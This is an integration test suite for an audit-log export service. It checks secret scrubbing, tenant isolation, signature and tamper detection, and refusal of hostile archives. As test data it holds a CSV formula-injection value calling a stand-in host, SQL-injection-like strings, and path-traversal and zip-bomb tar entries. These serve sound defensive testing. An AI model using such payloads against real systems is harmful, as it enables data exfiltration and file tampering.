import { spawn, spawnSync } from 'node:child_process'
import { randomUUID } from 'node:crypto'
import { readFile, writeFile } from 'node:fs/promises'
import path from 'node:path'
import { gunzipSync, gzipSync } from 'node:zlib'
import pg from 'pg'
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest'
import type { ExportManifest } from '#core/export/manifest.ts'
import { readTar, writeTar } from '#engine/bundle/tar.ts'
import { startLedgerStack, type LedgerStack } from '#test/support/ledger.ts'
import { buildEvent, buildLines, createClient, lineOf, type LogItem } from '#test/support/producer.ts'

const ROOT = path.join(import.meta.dirname, '../..')
const CARD = '4111111111111111'
const EXPORT = ['audit:export']
type Job = {
  id: string
  state: string
  records: number | null
  package: string | null
  query: Record<string, string>
  scrubbing: ExportManifest['scrubbing'] | null
  progress: { records: number; of: number; exact: boolean }
  error: { code: string; detail: string } | null
}

let stack: LedgerStack
let admin: pg.Client
let logKey: string
const client = (name: string) => createClient(stack.ledgers.at(-1)?.url ?? '', stack.token(name))

beforeAll(async () => {
  stack = await startLedgerStack({
    identities: [
      { name: 'proxy', tenant: 'acme', producer_id: 'demo/api', scopes: ['audit:write', 'audit:read'] },
      { name: 'globex-proxy', tenant: 'globex', producer_id: 'demo/api', scopes: ['audit:write', 'audit:read'] },
      { name: 'exporter', tenant: 'acme', scopes: EXPORT },
      { name: 'raw', tenant: 'acme', scopes: [...EXPORT, 'audit:export:raw'] },
      { name: 'admin', tenant: 'acme', scopes: ['audit:admin'] },
      { name: 'globex-exporter', tenant: 'globex', scopes: [...EXPORT, 'audit:admin'] },
    ],
  })
  const events = [
    buildEvent({ actor: 'user:alice', context: { password: 'hunter2', note: 'fine' } }),
    buildEvent({ actor: '=HYPERLINK("http://evil.example/?"&A1,"x")', resource: '-2+3\r\n"quoted", ünï\u0000' }),
    buildEvent({ actor: 'user:bob', before: { cards: [CARD] }, resource: '/login?api_key=abcdef123456' }),
    buildEvent({ actor: 'user:alice', resource_id: 'user:bob', data_domain: 'hr' }),
    buildEvent({ actor: 'user:old', timestamp_utc: '2020-01-01T00:00:00.000Z' }),
  ]
  const session = randomUUID()
  await client('proxy').append(events.map((event, index) => lineOf({ session, spool_seq: index + 1, event })))
  // Enough for pages, full tiles, and leaves of another tenant between.
  for (let batch = 0; batch < 3; batch++) {
    await client('globex-proxy').append(buildLines(randomUUID(), 1, 150, { actor: 'user:globex' }))
    await client('proxy').append(buildLines(randomUUID(), 1, 300, { actor: 'user:many' }))
  }
  await vi.waitFor(async () => {
    const keys = await fetch(`${client('proxy').url}/log/keys`)
    logKey = (await keys.text()).trim()
    expect(keys.status).toBe(200)
  })
  admin = new pg.Client(stack.wall.adminUrl)
  await admin.connect()
})
afterAll(async () => {
  await admin.end()
  await stack.stop()
})

async function post(name: string, body: unknown): Promise<{ status: number; body: Job & { code?: string } }> {
  const response = await client(name).post('/api/audit/exports', JSON.stringify(body))
  return { status: response.status, body: (await response.json()) as Job & { code?: string } }
}

async function finished(name: string, id: string): Promise<Job> {
  return vi.waitFor(
    async () => {
      const job = await client(name).get<Job>(`/api/audit/exports/${id}`)
      expect(['done', 'failed']).toContain(job.state)
      return job
    },
    { timeout: 30_000, interval: 100 },
  )
}

async function download(name: string, id: string): Promise<Response> {
  return fetch(`${client(name).url}/api/audit/exports/${id}/package`, { headers: client(name).headers })
}

/** Asks for an export and fetches it. */
async function exported(name: string, body: unknown): Promise<{ job: Job; file: string; files: Map<string, Buffer> }> {
  const asked = await post(name, body)
  expect(asked.status).toBe(202)
  const job = await finished(name, asked.body.id)
  expect(job.error).toBeNull()
  const response = await download(name, job.id)
  expect(response.status).toBe(200)
  const archive = Buffer.from(await response.arrayBuffer())
  const file = path.join(stack.dir, `${job.id}.tar.gz`)
  await writeFile(file, archive)
  return { job, file, files: readTar(gunzipSync(archive)) }
}

function text(files: ReadonlyMap<string, Buffer>, name: string): string {
  return files.get(name)?.toString('utf8') ?? ''
}

/** `signet verify` in a process of its own. */
async function signet(...args: string[]): Promise<{ code: number; out: string }> {
  const child = spawn(process.execPath, [path.join(ROOT, 'cli/main.ts'), 'verify', ...args], {
    env: { PATH: process.env['PATH'], NO_COLOR: '1' },
  })
  let out = ''
  child.stdout.on('data', (chunk: Buffer) => (out += chunk.toString()))
  child.stderr.on('data', (chunk: Buffer) => (out += chunk.toString()))
  const code = await new Promise<number>((resolve) => child.once('close', (status) => resolve(status ?? -1)))
  return { code, out }
}

function python(file: string): { records: number; exact: number; signatures_checked: boolean } {
  const hasOpenssl = spawnSync('openssl', ['version']).status === 0
  const checked = spawnSync(
    'python3',
    [path.join(import.meta.dirname, 'check_export.py'), file, ...(hasOpenssl ? [] : ['--no-openssl'])],
    { encoding: 'utf8' },
  )
  expect(checked.stderr).toBe('')
  return JSON.parse(checked.stdout) as ReturnType<typeof python>
}

describe.each(['ndjson', 'json', 'csv'])('as %s', (format) => {
  test('scrubbed: no secret is in it, and what was scrubbed is said', async () => {
    const { job, file, files } = await exported('exporter', { format })
    expect([...files.keys()]).toEqual([
      'README.txt',
      'keys.json',
      'checkpoint',
      `records.${format}`,
      'proofs.ndjson',
      'manifest.json',
    ])
    const records = text(files, `records.${format}`)
    for (const secret of ['hunter2', CARD, 'abcdef123456']) expect(records).not.toContain(secret)
    expect(records).toContain('fine')
    expect(records).not.toContain('user:globex')
    expect(records).not.toContain('user:old')
    const manifest = JSON.parse(text(files, 'manifest.json')) as ExportManifest
    expect(manifest).toMatchObject({ tenant: 'acme', format, raw: false, requested_by: 'exporter' })
    expect(manifest.scrubbing).toMatchObject({
      applied: true,
      kinds: { field: 1, 'payment-card': 1, password: 1 },
      paths: { '/event/context/password': 1, '/event/before/cards/0': 1, '/event/resource': 1 },
    })
    expect(job.scrubbing).toEqual(manifest.scrubbing)
    expect(job.progress.records).toBe(manifest.records)
    expect(text(files, 'keys.json')).not.toContain('private_key')

    expect(python(file)).toMatchObject({ records: manifest.records, exact: manifest.records - 2 })
    const verified = await signet(file, '--log-key', logKey, '--tenant', 'acme')
    expect(verified.out).toContain('2 scrubbed')
    expect(verified.code).toBe(0)
  })

  test('raw: every commitment can be computed', async () => {
    const { file, files, job } = await exported('raw', { format, raw: true, actor: 'user:bob' })
    expect(job.records).toBe(1)
    expect(text(files, `records.${format}`)).toContain('abcdef123456')
    expect(python(file)).toMatchObject({ records: 1, exact: 1 })
    expect((await signet(file, '--log-key', logKey)).code).toBe(0)
  })

  test('of nothing', async () => {
    const { file, job } = await exported('exporter', { format, actor: 'user:nobody' })
    expect(job.records).toBe(0)
    expect(python(file)).toMatchObject({ records: 0 })
    expect((await signet(file, '--log-key', logKey)).code).toBe(0)
  })
})

describe('what is asked for', () => {
  test('30 days up to now, unless said otherwise; older records by date; words', async () => {
    const { body } = await post('exporter', {})
    const days = (Date.parse(body.query['to'] ?? '') - Date.parse(body.query['from'] ?? '')) / 86_400_000
    expect(days).toBe(30)
    const old = await exported('exporter', { from: '2019-12-31T00:00:00.000Z', to: '2020-01-02T00:00:00.000Z' })
    expect(old.job.records).toBe(1)
    expect((await exported('exporter', { q: 'fine' })).job.records).toBe(1)
  })

  test.each([
    { body: { format: 'xml' }, want: 'REQUEST_INVALID' },
    { body: { from: 'yesterday' }, want: 'REQUEST_INVALID' },
    { body: { from: '2026-01-02T00:00:00.000Z', to: '2026-01-01T00:00:00.000Z' }, want: 'REQUEST_INVALID' },
    { body: { tenant: 'globex' }, want: 'REQUEST_INVALID' },
    { body: { session: "' OR true" }, want: 'REQUEST_INVALID' },
    { body: { actor: 7 }, want: 'REQUEST_INVALID' },
    { body: { raw: true }, want: 'FORBIDDEN' },
  ])('$body is refused', async ({ body, want }) => {
    expect((await post('exporter', body)).body.code).toBe(want)
  })

  test('without the scope, of another tenant, or with an id that is none, there is nothing', async () => {
    expect((await post('proxy', {})).status).toBe(403)
    const { body } = await post('exporter', { actor: 'user:bob' })
    await finished('exporter', body.id)
    for (const [name, id, status] of [
      ['globex-exporter', body.id, 404],
      ['exporter', randomUUID(), 404],
      ['exporter', "x'--", 404],
      ['proxy', body.id, 403],
    ] as const) {
      expect((await download(name, id)).status).toBe(status)
      const shown = await fetch(`${client(name).url}/api/audit/exports/${encodeURIComponent(id)}`, {
        headers: client(name).headers,
      })
      expect(shown.status).toBe(status)
    }
  })

  test('is in the chain: asked for, done, fetched', async () => {
    const { job } = await exported('raw', { raw: true, actor: 'user:alice' })
    const { items } = await client('proxy').get<{ items: LogItem[] }>(`/api/audit/logs?order=asc&resource_id=${job.id}`)
    expect(items.map(({ event }) => event.event_type)).toEqual([
      'audit.export.requested',
      'audit.export.completed',
      'audit.export.downloaded',
    ])
    expect(items[0]?.event.context).toMatchObject({
      requested_by: 'raw',
      raw: true,
      query: { actor: expect.stringMatching(/^subject:/) },
    })
    expect(items[1]?.event.context).toMatchObject({ records: 2 })
    expect(items[2]?.event.context).toMatchObject({ downloaded_by: 'raw' })
  })
})

describe('what was changed is found', () => {
  let files: Map<string, Buffer>
  let whole: Buffer
  beforeAll(async () => {
    const made = await exported('raw', { raw: true, actor: 'user:many' })
    files = made.files
    whole = await readFile(made.file)
  })

  async function check(archive: Buffer, ...args: string[]): Promise<{ code: number; out: string }> {
    const file = path.join(stack.dir, `${randomUUID()}.tar.gz`)
    await writeFile(file, archive)
    return signet(file, ...args)
  }
  const packed = async (changed: ReadonlyMap<string, Buffer>): Promise<Buffer> => gzipSync(await writeTar(changed))
  const edited = (name: string, from: string | RegExp, to: string): Map<string, Buffer> => {
    const before = text(files, name)
    const after = before.replace(from, to)
    expect(after).not.toBe(before)
    return new Map([...files].map(([one, content]) => [one, one === name ? Buffer.from(after) : content]))
  }

  test('untouched and packed again it verifies; without a key of the log it says so', async () => {
    expect((await check(await packed(files), '--log-key', logKey)).code).toBe(0)
    const bare = await check(whole)
    expect(bare.code).toBe(3)
    expect(bare.out).toContain('only with the keys that came with it')
    const other = `signet-ledger+${'0'.repeat(8)}+AAAA`
    expect((await check(whole, '--log-key', other)).code).toBe(2)
    expect((await check(whole, '--log-key', logKey, '--tenant', 'globex')).code).toBe(1)
  })

  test.each([
    { name: 'records.ndjson', from: '"subject:', to: '"subjekt:', want: 'not what the chain committed to' },
    { name: 'records.ndjson', from: /^.*\n/, to: '', want: 'not what manifest.json says' },
    { name: 'records.ndjson', from: /^(.*\n)(.*\n)/, to: '$2$1', want: 'order of the chain' },
    { name: 'records.ndjson', from: /^(.*\n)/, to: '$1$1', want: 'order of the chain' },
    { name: 'records.ndjson', from: /"nonce":"[0-9a-f]{64}"/, to: '"nonce":null', want: 'without its nonce' },
    { name: 'records.ndjson', from: '{', to: '{ ', want: 'canonical' },
    { name: 'records.ndjson', from: /\n$/, to: '', want: 'not ended' },
    { name: 'proofs.ndjson', from: /"inclusion_path":\["[0-9a-f]/, to: '"inclusion_path":["x', want: 'no proof' },
    { name: 'proofs.ndjson', from: /("leaf_index":)(\d+)/, to: '$11', want: 'not in the log' },
    { name: 'checkpoint', from: /\n(\d+)\n/, to: '\n1\n', want: 'not signed by' },
    { name: 'manifest.json', from: '"tenant":"acme"', to: '"tenant":"evil"', want: 'not signed' },
    { name: 'manifest.json', from: '{', to: '{ ', want: 'canonical' },
    { name: 'README.txt', from: 'acme', to: 'evil', want: 'README.txt is not what' },
    { name: 'keys.json', from: 'signet-ledger', to: 'signet-ledgex', want: 'keys.json is not what' },
  ])('$name: $from becomes $to', async ({ name, from, to, want }) => {
    const { code, out } = await check(await packed(edited(name, from, to)), '--log-key', logKey)
    expect(out).toContain(want)
    expect(code).toBe(1)
  })

  test('hostile archives are refused', async () => {
    const entries = [...files]
    const tar = await writeTar(files)
    const renamed = (from: string, to: string): [string, Buffer][] =>
      entries.map(([name, content]) => [name === from ? to : name, content])
    const bomb = Buffer.alloc(64 * 1024 * 1024)
    const link = Buffer.from(tar)
    link[156] = 0x32
    const archives: [string, Buffer][] = [
      ['cut off', whole.subarray(0, whole.length / 2)],
      ['no gzip behind its first bytes', Buffer.concat([whole.subarray(0, 10), Buffer.alloc(100)])],
      ['something behind its end', gzipSync(Buffer.concat([tar, Buffer.from('x')]))],
      ['two archives', Buffer.concat([whole, whole])],
      ['a path', gzipSync(await writeTar(renamed('checkpoint', '../checkpoint')))],
      ['an absolute path', gzipSync(await writeTar(renamed('README.txt', '/etc/passwd')))],
      ['a name twice', gzipSync(await writeTar([...entries.slice(0, 4), ...entries.slice(3)]))],
      ['another order', gzipSync(await writeTar([...entries].toReversed()))],
      ['one more file', gzipSync(await writeTar([...entries, ['more.txt', Buffer.from('x')]]))],
      ['one file less', gzipSync(await writeTar(entries.slice(0, 5)))],
      ['a link', gzipSync(link)],
      ['a line without end', gzipSync(await writeTar(new Map([...files, ['records.ndjson', bomb]])))],
      ['a large README', gzipSync(await writeTar(new Map([...files, ['README.txt', bomb]])))],
      ['nothing', gzipSync(Buffer.alloc(0))],
      ['zeros', gzipSync(bomb)],
    ]
    for (const [what, archive] of archives) {
      const { code, out } = await check(archive, '--log-key', logKey)
      expect([what, code, out]).toEqual([what, 1, expect.stringContaining('EXPORT_INVALID')])
    }
  })
})

test('an export whose record was changed on the wall fails, and says which; one made before breaks off', async () => {
  const before = await exported('globex-exporter', {})
  expect(before.job.records).toBeGreaterThan(400)
  await admin.query('ALTER TABLE signet.records DISABLE TRIGGER refuse_change')
  const change = async (from: string, to: string): Promise<void> => {
    await admin.query(
      `UPDATE signet.records SET bytes = convert_to(replace(convert_from(bytes, 'UTF8'), $1, $2), 'UTF8') WHERE tenant = 'globex' AND seq = 3`,
      [from, to],
    )
  }
  try {
    await change('"subject:', '"subjekt:')
    const { body } = await post('globex-exporter', {})
    const job = await finished('globex-exporter', body.id)
    expect(job).toMatchObject({
      state: 'failed',
      error: { code: 'CHAIN_BROKEN', detail: expect.stringContaining('record 3') },
    })
    expect((await download('globex-exporter', body.id)).status).toBe(409)
    const broken = download('globex-exporter', before.job.id).then((response) => response.arrayBuffer())
    await expect(broken).rejects.toThrow()
  } finally {
    await change('"subjekt:', '"subject:')
    await admin.query('ALTER TABLE signet.records ENABLE ALWAYS TRIGGER refuse_change')
  }
})

test('while frozen nothing is exported; both is recorded, and holds for the tenant only', async () => {
  const { job } = await exported('exporter', { actor: 'user:bob' })
  const freeze = (name: string, what: string, body: unknown = { reason: 'an incident' }): Promise<Response> =>
    client(name).post(`/api/audit/exports/${what}`, JSON.stringify(body))
  expect((await freeze('exporter', 'freeze')).status).toBe(403)
  expect((await freeze('admin', 'freeze', {})).status).toBe(400)
  const answer = await freeze('admin', 'freeze')
  expect(await answer.json()).toMatchObject({ frozen: true, by: 'admin', reason: 'an incident' })
  expect((await post('exporter', {})).body.code).toBe('EXPORT_FROZEN')
  expect((await download('exporter', job.id)).status).toBe(423)
  expect((await post('globex-exporter', { actor: 'user:nobody' })).status).toBe(202)
  // One that was asked for before waits as well.
  const work = new pg.Client(stack.work.adminUrl)
  await work.connect()
  await work.query("UPDATE signet.exports SET state = 'queued', package = NULL WHERE id = $1", [job.id])
  await work.end()
  await new Promise((resolve) => setTimeout(resolve, 1_500))
  expect((await client('exporter').get<Job>(`/api/audit/exports/${job.id}`)).state).toBe('queued')
  expect(await (await freeze('admin', 'unfreeze', { reason: 'over' })).json()).toEqual({ frozen: false })
  await finished('exporter', job.id)
  expect((await download('exporter', job.id)).status).toBe(200)
  const { items } = await client('proxy').get<{ items: LogItem[] }>('/api/audit/logs?order=asc&resource_id=all')
  expect(items.map(({ event }) => [event.event_type, event.context?.['reason']])).toEqual([
    ['audit.export.frozen', 'an incident'],
    ['audit.export.unfrozen', 'over'],
  ])
})

test('all that is held about a person', async () => {
  const { items } = await client('proxy').get<{ items: LogItem[] }>('/api/audit/subjects/user:bob/records?order=asc')
  // That somebody exported what is held about a person is held about that person, too.
  const events = items.map(({ event }) => event).filter(({ source }) => source !== 'signet-ledger')
  const bob = events[0]?.actor ?? ''
  const alice = events[1]?.actor ?? ''
  expect([bob, alice]).toEqual(Array(2).fill(expect.stringMatching(/^subject:/)))
  expect(events.map(({ actor, resource_id: id }) => [actor, id ?? null])).toEqual([
    [bob, null],
    [alice, bob],
  ])
  const page = await client('proxy').get<{ items: LogItem[]; next_cursor: string }>(
    '/api/audit/subjects/user:many/records?limit=100',
  )
  const next = await client('proxy').get<{ items: LogItem[] }>(
    `/api/audit/subjects/user:many/records?limit=1000&cursor=${page.next_cursor}`,
  )
  // 900 events, and that somebody exported them.
  expect([page.items.length, next.items.length]).toEqual([100, 801])
  const other = await fetch(`${client('exporter').url}/api/audit/subjects/user:bob/records`, {
    headers: client('exporter').headers,
  })
  expect(other.status).toBe(403)
})

test('what one process leaves behind another finishes', async () => {
  const { body } = await post('raw', { raw: true })
  await stack.ledgers.at(-1)?.kill()
  // As if it had been killed in the middle, some time ago.
  const work = new pg.Client(stack.work.adminUrl)
  await work.connect()
  await work.query(
    "UPDATE signet.exports SET state = 'running', claimed_by = gen_random_uuid(), claimed_until = now() - interval '1 s', attempts = 1 WHERE id = $1 AND state <> 'done'",
    [body.id],
  )
  await stack.startLedger()
  const job = await finished('raw', body.id)
  expect(job.error).toBeNull()
  const archive = await download('raw', job.id)
  const file = path.join(stack.dir, 'taken-over.tar.gz')
  await writeFile(file, Buffer.from(await archive.arrayBuffer()))
  expect((await signet(file, '--log-key', logKey)).code).toBe(0)

  await work.query("UPDATE signet.exports SET expires_at = now() - interval '1 s' WHERE id = $1", [body.id])
  await work.end()
  expect((await download('raw', job.id)).status).toBe(410)
})

test('a tenant has so many exports a day, and no more', async () => {
  let answer = await post('globex-exporter', { actor: 'user:nobody' })
  for (let count = 0; answer.status === 202 && count < 30; count++)
    answer = await post('globex-exporter', { actor: 'user:nobody' })
  expect([answer.status, answer.body.code]).toEqual([429, 'TOO_MANY_REQUESTS'])
})
